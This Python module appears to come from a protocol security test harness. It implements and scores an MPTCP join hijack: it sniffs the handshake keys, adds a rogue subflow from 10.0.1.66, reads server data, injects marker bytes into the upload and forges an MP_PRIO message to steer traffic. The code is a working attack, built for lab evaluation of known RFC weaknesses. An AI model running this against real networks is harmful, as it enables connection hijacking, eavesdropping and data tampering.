"""Attack 1, subflow (join) hijack: join the victim's MPTCP connection from the attacker's own address.

Source: RFC 7430 ("Eavesdropper in the Initial Handshake") and RFC 8684 §5: MPTCP authenticates MP_JOIN with an HMAC
keyed by the two MP_CAPABLE keys, which travel in clear in the first subflow's handshake; an attacker who saw that
handshake can compute every join HMAC and add a subflow of its own. Also RFC 6181 (hijacking).

The attacker reads Key-client and Key-server off path 1 (the client's third ACK), sends an MP_JOIN SYN from
10.0.1.66 with the server's token, answers the SYN-ACK with the valid third-ACK HMAC, then (a) ACKs whatever the
server schedules on its subflow and reads it, and (b) sends data mapped at the upload's next data sequence number,
so the server's application reads the attacker's bytes instead of the client's. To get the server to schedule
data on its subflow at all (Linux's scheduler otherwise keeps to the first subflow at this rate), it also demotes
path 1 with a forged MP_PRIO(backup) to the server, as in attack 3: then the server's data spreads over path 2
and the attacker's subflow.

Effect measured: the server kept a subflow from 10.0.1.66 (`ss`), the attacker read application records, the
server's application read the attacker's marker (upload sha256 changed).
"""

from __future__ import annotations

import random
import time

from mptcrypt.attacks.common import ACK, INJECT_MARK, mptcp_opt, spoof_to_server
from mptcrypt.attacks.judging import decide
from mptcrypt.attacks.rogue import RogueSubflow
from mptcrypt.attacks.runner import Evidence, Verdict
from mptcrypt.wire.mptcp import MptcpOption

NUMBER = 1
TITLE = "MP_JOIN hijack with sniffed keys"
SOURCE = "RFC 7430 (eavesdropper in the initial handshake); RFC 8684 §3.2, §5"
INJECTIONS = 4
READ_ENOUGH = 24  # records


def attack(agent) -> dict:
    v = agent.view
    if not v.keys_known:
        return {"skipped": "MP_CAPABLE keys not seen"}
    sub = RogueSubflow(agent, "initiator", random.randint(40000, 60000), v.server, v.port)
    for _ in range(3):  # SYN, and twice more if nothing answers
        sub.connect()
        agent.pump(time.time() + 0.4, stop=lambda: sub.state != "syn-sent")
        if sub.state != "syn-sent":
            break
    injected = 0
    if sub.state == "established":
        agent.pump(time.time() + 0.3)  # the server's fourth ACK; let it schedule data on the new subflow
        for i in range(INJECTIONS):
            if agent.next_upload_segment(timeout=0.5) is None:
                agent.pump(time.time() + 0.05)
            dsn = v.next_dsn_c2s()
            if dsn is None or sub.state != "established":
                break
            sub.send_data(INJECT_MARK + b"-join-%02d\n" % i, dsn)
            injected += 1
            agent.pump(time.time() + 0.15)
        if sub.state == "established":
            prio = mptcp_opt(MptcpOption.mp_prio(True))
            agent.spoof(lambda: spoof_to_server(v, ACK, [prio]), None, "MP_PRIO backup for path 1 (steer to us)")
            agent.pump(time.time() + 1.5, stop=lambda: sum(map(len, sub.records.values())) >= READ_ENOUGH)
            sub.reset()  # enough read: let the server reinject the rest, so the transfer ends on time
    agent.rogue = sub
    return {"injections": injected}


def after(agent) -> dict:
    sub = getattr(agent, "rogue", None)
    return {"rogue": sub.report()} if sub is not None else {}


def judge(ev: Evidence) -> Verdict:
    r = ev.result.get("rogue") or {}
    up = ev.transfer["upload"]
    server_saw = "attacker" in ev.paths_ever("server")
    read = sum((r.get("records_read") or {}).values())
    markers = up["injected_markers"]
    evidence = {
        "join": r.get("state"),
        "server_hmac_valid": r.get("peer_hmac_valid"),
        "server_subflow_from_attacker": server_saw,
        "attacker_read_records": read,
        "attacker_read_bytes": r.get("bytes_read", 0),
        "markers_in_server_app": markers,
        "server_MPTcpExt": {k: ev.counter("server", k) for k in ("JoinSynRx", "JoinAckRx", "JoinAckHMacFailure")
                            if ev.counter("server", k)},
    }
    effective = bool(r.get("established") and server_saw and (read or markers))
    effect = (f"joined from 10.0.1.66 with a valid HMAC; read {read} records, "
              f"{markers} injected markers reached the server app")
    return decide(ev, effective, effect, "join SYN dropped: no SYN-ACK, no subflow, nothing read or injected",
                  evidence)
